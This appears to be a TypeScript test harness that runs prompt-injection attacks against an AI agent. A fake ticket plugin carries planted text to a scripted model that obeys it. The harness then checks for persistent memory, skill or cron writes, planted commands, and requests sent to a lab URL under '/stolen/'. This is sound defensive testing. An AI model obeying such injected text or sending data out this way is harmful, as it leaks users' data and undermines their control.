// One attack from start to end against the whole program: what it left behind, and which yeses it was given.

import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Question } from "../../src/contracts/question.ts";
import { type AgentOptions, createAgent } from "../../src/entries/index.ts";
import { everything, type LabHome } from "./lab-home.ts";
import { deeds, type Injection, obey, opening, plant } from "./obedient-model.ts";

export type Effect = "memory" | "skill" | "command" | "send" | "cron";

export interface Outcome {
  /** What really happened, seen from outside. */
  readonly effects: readonly { readonly effect: Effect; readonly trace: string }[];
  readonly approvals: number;
  readonly questions: number;
  /** The foreign text reached the model. */
  readonly delivered: boolean;
  /** Tools that answered something. */
  readonly tried: number;
}

export interface Attacker {
  /** `a turn later`: the text is read in one turn and obeyed in the next. */
  attack(injection: Injection, when?: "at once" | "a turn later"): Promise<Outcome>;
}

/** Tools of a plugin: one reads what strangers write, one sends to them. */
export function installTicketTools(lab: LabHome): void {
  const dir = join(lab.home, "plugins", "tickets");
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "plugin.yaml"), "name: tickets\nversion: 1.0.0\ndescription: Tickets of strangers.\n");
  const sent = JSON.stringify(`${lab.world.url}/stolen/ticket-`);
  writeFileSync(
    join(dir, "index.mjs"),
    `import { readFileSync } from "node:fs";
const schema = { decode: (value) => ({ type: "ok", value }), json: { type: "object", properties: {} } };
const result = (value) => ({ parts: [{ type: "text", text: JSON.stringify(value) }], isError: false });
const read = { name: "ticket_read", toolset: "tickets", description: "Read a ticket.", input: schema, effect: "read", output: "foreign", taints: "a ticket",
  touches: () => [], run: async ({ id }) => result({ content: readFileSync(${JSON.stringify(lab.outside)} + "/" + id + ".txt", "utf8") }) };
const reply = { name: "ticket_reply", toolset: "tickets", description: "Answer a ticket.", input: schema, effect: "execute", output: "own",
  touches: () => [], run: async ({ body }) => { await fetch(${sent} + encodeURIComponent(body)); return result({ sent: true }); } };
export const plugin = { name: "tickets", setup: () => ({ tools: [read, reply] }) };
`,
  );
}

/** Every attack finds a conversation without strangers' words in it. */
export function openAttacker(
  lab: LabHome,
  options: Pick<AgentOptions, "yolo"> & { readonly answer?: (question: Question) => "yes" | "no" } = {},
): Attacker {
  const { answer, ...rest } = options;
  return {
    async attack(injection, when = "at once") {
      const count = { approvals: 0, questions: 0 };
      const onQuestion = async (question: Question) => {
        count.questions += 1;
        if (answer?.(question) !== "yes") return { type: "no" } as const;
        count.approvals += 1;
        return { type: "yes", scope: "once" } as const;
      };
      const person = answer === undefined ? {} : { onQuestion };
      const agent = await createAgent({ home: lab.home, cwd: lab.workspace, ...rest, ...person });
      const read = plant(lab, injection, writeFileSync);
      const all = deeds(lab, injection);
      const ended: boolean[] = [];
      try {
        for (const plan of when === "at once" ? [[read, ...all]] : [[read], all]) {
          const answerTo = obey(lab, injection, plan);
          lab.model.reset(() => answerTo(lab.model.exchanges.at(-1)?.body ?? { messages: [] }));
          for await (const event of agent.send(opening(injection)))
            if (event.type === "tool-end") ended.push(event.isError);
        }
        return {
          effects: await traces(lab, injection.mark),
          ...count,
          delivered: ended[0] === false,
          tried: ended.length,
        };
      } finally {
        await agent.close();
      }
    },
  };
}

/** Background jobs and children get a moment to show what they would have done. */
async function traces(lab: LabHome, mark: string): Promise<Outcome["effects"]> {
  await new Promise((resolve) => setTimeout(resolve, 20));
  const effects: { effect: Effect; trace: string }[] = [];
  const note = (effect: Effect, trace: string) => effects.push({ effect, trace });
  if (everything(join(lab.home, "memories")).includes(mark)) note("memory", "memories/");
  if (existsSync(join(lab.home, "skills")) && everything(join(lab.home, "skills")).includes(mark))
    note("skill", "skills/");
  if (everything(join(lab.home, "cron")).includes(mark)) note("cron", "cron/");
  for (const name of readdirSync(lab.workspace))
    if (name.startsWith("planted-") && name.includes(mark)) note("command", name);
  for (const request of lab.world.received) if (request.includes(mark)) note("send", request.slice(0, 80));
  return effects;
}
